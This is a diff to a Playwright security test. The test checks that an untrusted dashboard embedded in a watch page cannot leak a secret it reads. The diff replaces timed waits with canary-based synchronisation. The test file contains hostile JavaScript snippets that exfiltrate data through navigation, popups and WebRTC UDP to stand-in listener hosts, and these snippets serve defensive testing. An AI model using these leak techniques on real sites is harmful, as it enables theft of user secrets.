@@ -1,4 +1,5 @@
 import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
+import { Canaries } from "./support/canary";
 import { describeCounts, LoopbackListeners, reached, type Counts, type ListenerTarget } from "./support/listeners";
 import { SignInPage } from "./support/pages";
 import { DraftAuthor, WatchPage, type CreatedDraft } from "./support/watch-page";
@@ -14,15 +15,21 @@ import { DraftAuthor, WatchPage, type CreatedDraft } from "./support/watch-page"
 // frame-src, but Chromium has opened the connection by then, so the port, and for https the
 // TLS server name, reach the target. Those cases are in RESIDUAL: the test measures them and
 // holds them to the bounds written down there (never an HTTP byte, never a UDP datagram).
-
-/** How long after the secret was read a case waits for what it sent. */
-const GRACE_MS = 800;
+//
+// A case counts what arrived once it knows the attempts were made and would have been heard:
+// the dashboard marks its document once the attack has run and two frames have rendered since
+// (so whatever rendering starts has started), or its document is gone (a navigation or
+// document.open replaced it); then the browser sends canaries to the case's listeners (see
+// support/canary.ts), and what has not arrived before them was not sent.
 
 let listeners: LoopbackListeners;
-test.beforeAll(() => {
+let canaries: Canaries;
+test.beforeAll(({ browser }) => {
   listeners = new LoopbackListeners();
+  canaries = new Canaries(browser, listeners);
 });
 test.afterAll(async () => {
+  await canaries.close();
   await listeners.close();
 });
 
@@ -51,10 +58,33 @@ function hostile(attack: string, t: ListenerTarget): string {
   try {
     ${attack}
   } catch (e) { out("threw " + (e && e.name)); }
-  document.getElementById("status").textContent = "done";
+  const status = document.getElementById("status");
+  if (status) status.textContent = "done";
+  // Every attempt is made once two frames have rendered after it; a frame that renders nothing
+  // (hidden, or its document written over) moves on after 250 ms.
+  await new Promise((resolve) => { requestAnimationFrame(() => requestAnimationFrame(resolve)); setTimeout(resolve, 250); });
+  document.documentElement.setAttribute("data-attempts", "made");
 })();
 </script>`;
 }
+
+/**
+ * Waits until the dashboard in the watch page's frame has made every attempt: it marked its
+ * document so, or the document is no longer the dashboard's (navigated away or written over
+ * by document.open without the mark).
+ */
+async function attemptsMade(page: Page): Promise<void> {
+  const state = async () => {
+    const frame = await (await page.getByTestId("dashboard-frame").elementHandle({ timeout: 1_000 }).catch(() => null))?.contentFrame();
+    return frame
+      ?.evaluate(() => (document.documentElement.getAttribute("data-attempts") === "made" ? "made" : document.getElementById("status") ? "running" : "gone"))
+      .catch(() => "unknown");
+  };
+  await expect.poll(state, { intervals: [25], message: "the dashboard made its attempts" }).toMatch(/^(made|gone)$/);
+}
+
+/** The attack names a WebRTC peer, whose channel is UDP. */
+const usesWebRtc = (attack: string) => /rtc\(|RTC/.test(attack);
 
 // Kept as source so a srcdoc frame can carry it too; it needs only HEX and UDP in scope.
 const RTC_SOURCE = `async function rtc(PC) {
@@ -79,7 +109,7 @@ const attacks: Record<string, string> = {
   // Navigation of the frame itself, the top window and popups
   "location.href": `location.href = LEAK;`,
   "location.replace": `location.replace(LEAK);`,
-  "location.assign in a timer": `setTimeout(() => location.assign(LEAK), 50);`,
+  "location.assign in a timer": `await new Promise((resolve) => setTimeout(() => { location.assign(LEAK); resolve(); }, 50));`,
   "top.location": `top.location.href = LEAK;`,
   "parent.location": `parent.location = LEAK;`,
   "window.open": `const w = window.open(LEAK); out("open " + w);`,
@@ -213,9 +243,12 @@ async function openHostile(
   const watch = new WatchPage(page);
   await watch.open(draft.watchUrl);
   if (extra.dataMode === "live") {
-    // Nothing of the dashboard runs before the viewer agrees: the listeners have heard nothing.
+    // Nothing of the dashboard runs before the viewer agrees: there is no frame for it to run
+    // in, and the listeners, which hear the browser's canaries, have heard nothing else.
     await expect(page.getByTestId("consent-gate")).toBeVisible();
-    await page.waitForTimeout(GRACE_MS);
+    await expect(watch.frameElement()).toHaveCount(0);
+    await canaries.send(watched, { udp: true });
+    await expect(watch.frameElement()).toHaveCount(0);
     for (const w of watched) {
       const c = listeners.counts(w.name);
       expect(reached(c), `${w.name} before consent: ${describeCounts(c)}`).toBe(false);
@@ -225,7 +258,8 @@ async function openHostile(
   // The secret was read through the broker before the attack ran.
   await watch.openRequestLog();
   await expect(watch.requestLogEntries().filter({ hasText: "/me" }).filter({ hasText: "200" }).first()).toBeVisible();
-  await page.waitForTimeout(GRACE_MS);
+  await attemptsMade(page);
+  await canaries.send(watched, { udp: usesWebRtc(attack) });
   return { author, draft, watch };
 }
 
